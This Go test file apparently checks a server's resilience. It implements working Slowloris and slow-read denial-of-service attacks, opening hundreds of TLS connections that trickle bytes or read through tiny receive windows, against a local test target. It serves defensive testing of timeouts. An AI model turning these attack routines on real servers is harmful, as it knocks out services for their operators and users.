package cmd

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"sort"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// Slowloris: connections that send their request a byte at a time and
// never finish it, reopened as soon as the server drops them, so they keep
// holding whatever a connection costs (a goroutine, buffers, a slot under a
// connection cap). Two thirds trickle an HTTP request's headers after the
// TLS handshake; one third trickle the TLS ClientHello itself.
const (
	slowlorisConns    = 300
	slowlorisInterval = 500 * time.Millisecond
	// slowlorisFor outlasts a 10 s header timeout, so the figures show
	// whether and when the server drops the slow clients.
	slowlorisFor = 13 * time.Second
)

var slowlorisAttack = attackSpec{
	name:  "slowloris",
	bound: slowlorisFor + 5*time.Second,
	run:   runSlowloris,
}

func runSlowloris(t *testing.T, ctx context.Context, tgt *attackTarget, row *attackRow) {
	hello := clientHello(t, tgt.tlsConfig("http/1.1"))
	attackCtx, cancel := context.WithTimeout(ctx, slowlorisFor)
	defer cancel()
	var mu sync.Mutex
	var heldFor []time.Duration // how long each connection the server dropped was held
	var wg sync.WaitGroup
	for i := range slowlorisConns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for attackCtx.Err() == nil {
				start := time.Now()
				dropped := trickleOnce(attackCtx, tgt, row, i%3 == 2, hello)
				if dropped {
					mu.Lock()
					heldFor = append(heldFor, time.Since(start))
					mu.Unlock()
				}
			}
		}()
	}
	wg.Wait()
	sort.Slice(heldFor, func(i, j int) bool { return heldFor[i] < heldFor[j] })
	median := time.Duration(0)
	if len(heldFor) > 0 {
		median = heldFor[len(heldFor)/2]
	}
	row.count("dropped by the server", int64(len(heldFor)))
	row.count("median ms a dropped connection was held", median.Milliseconds())
	row.Size = fmt.Sprintf("%d connections a byte every %v for %v (%d opened, %d dropped by the server",
		slowlorisConns, slowlorisInterval, slowlorisFor, row.Connections, len(heldFor))
	if len(heldFor) > 0 {
		row.Size += fmt.Sprintf(" after %.1f s median", median.Seconds())
	}
	row.Size += ")"
}

// trickleOnce opens one connection and trickles bytes into it until the
// server drops it (true) or ctx ends (false).
func trickleOnce(ctx context.Context, tgt *attackTarget, row *attackRow, handshake bool, hello []byte) bool {
	var d net.Dialer
	raw, err := d.DialContext(ctx, "tcp", tgt.addr)
	if err != nil {
		if ctx.Err() == nil {
			row.count("dial error", 1)
			// Do not spin on a refused dial.
			select {
			case <-ctx.Done():
			case <-time.After(slowlorisInterval):
			}
		}
		return false
	}
	atomic.AddInt64(&row.Connections, 1)
	var conn net.Conn = raw
	var data []byte
	if handshake {
		data = hello
	} else {
		tc := tls.Client(raw, tgt.tlsConfig("http/1.1"))
		if err := tc.HandshakeContext(ctx); err != nil {
			raw.Close()
			if ctx.Err() == nil {
				row.count("handshake refused", 1)
				return true
			}
			return false
		}
		conn = tc
		data = []byte("GET /apps/app0 HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\nX-Slow: ")
		for len(data) < 4096 {
			data = append(data, 'a')
		}
	}
	defer conn.Close()
	// The server drops the connection: the read ends (EOF, a reset, or
	// an answer such as 408, which also ends it).
	dropped := make(chan struct{})
	go func() {
		io.Copy(io.Discard, conn)
		close(dropped)
	}()
	tick := time.NewTicker(slowlorisInterval)
	defer tick.Stop()
	for i := 0; ; i++ {
		if i < len(data) {
			if _, err := conn.Write(data[i : i+1]); err != nil {
				return true
			}
			atomic.AddInt64(&row.Bytes, 1)
		}
		select {
		case <-dropped:
			return true
		case <-ctx.Done():
			raw.Close()
			return false
		case <-tick.C:
		}
	}
}

// clientHello returns the first TLS record a client sends for cfg: its
// ClientHello, to be trickled byte by byte.
func clientHello(t *testing.T, cfg *tls.Config) []byte {
	t.Helper()
	a, b := net.Pipe()
	defer b.Close()
	go func() {
		tls.Client(a, cfg).Handshake()
		a.Close()
	}()
	hdr := make([]byte, 5)
	if _, err := io.ReadFull(b, hdr); err != nil {
		t.Fatal(err)
	}
	rec := make([]byte, int(hdr[3])<<8|int(hdr[4]))
	if _, err := io.ReadFull(b, rec); err != nil {
		t.Fatal(err)
	}
	return append(hdr, rec...)
}

// Slow reads: clients that ask for the largest response and read it a few
// bytes a second through a tiny receive window, holding the server's
// response in flight for as long as its write timeout allows.
const (
	slowReaders   = 50
	slowReadChunk = 16
	slowReadEvery = 250 * time.Millisecond
	slowReadFor   = 10 * time.Second
)

var slowReadAttack = attackSpec{
	name:  "slow reads of the largest response",
	bound: slowReadFor + 5*time.Second,
	run: func(t *testing.T, ctx context.Context, tgt *attackTarget, row *attackRow) {
		runSlowRead(t, ctx, tgt, row, findEcharts(t, tgt))
	},
}

func runSlowRead(t *testing.T, ctx context.Context, tgt *attackTarget, row *attackRow, path string) {
	attackCtx, cancel := context.WithTimeout(ctx, slowReadFor)
	defer cancel()
	row.Size = fmt.Sprintf("%d connections reading %s at %d B per %v for %v, 2 KiB receive buffer",
		slowReaders, path, slowReadChunk, slowReadEvery, slowReadFor)
	var wg sync.WaitGroup
	for range slowReaders {
		wg.Add(1)
		go func() {
			defer wg.Done()
			slowReadOnce(attackCtx, tgt, row, path)
		}()
	}
	wg.Wait()
}

func slowReadOnce(ctx context.Context, tgt *attackTarget, row *attackRow, path string) {
	d := &tls.Dialer{
		NetDialer: &net.Dialer{Control: func(_, _ string, c syscall.RawConn) error {
			// Before connect, so the window the server sees is small
			// from the start.
			var serr error
			err := c.Control(func(fd uintptr) {
				serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 2048)
			})
			if err != nil {
				return err
			}
			return serr
		}},
		Config: tgt.tlsConfig("http/1.1"),
	}
	conn, err := d.DialContext(ctx, "tcp", tgt.addr)
	if err != nil {
		if ctx.Err() == nil {
			row.count("dial error", 1)
		}
		return
	}
	defer conn.Close()
	atomic.AddInt64(&row.Connections, 1)
	atomic.AddInt64(&row.Requests, 1)
	req := "GET " + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\nAccept-Encoding: identity\r\n\r\n"
	if _, err := io.WriteString(conn, req); err != nil {
		row.count("write error", 1)
		return
	}
	atomic.AddInt64(&row.Bytes, int64(len(req)))
	context.AfterFunc(ctx, func() { conn.Close() })
	buf := make([]byte, slowReadChunk)
	tick := time.NewTicker(slowReadEvery)
	defer tick.Stop()
	for {
		n, err := conn.Read(buf)
		row.count("bytes received", int64(n))
		if err != nil {
			if ctx.Err() == nil {
				row.count("dropped by the server", 1)
			} else {
				row.count("still reading at the end", 1)
			}
			return
		}
		select {
		case <-ctx.Done():
			row.count("still reading at the end", 1)
			return
		case <-tick.C:
		}
	}
}
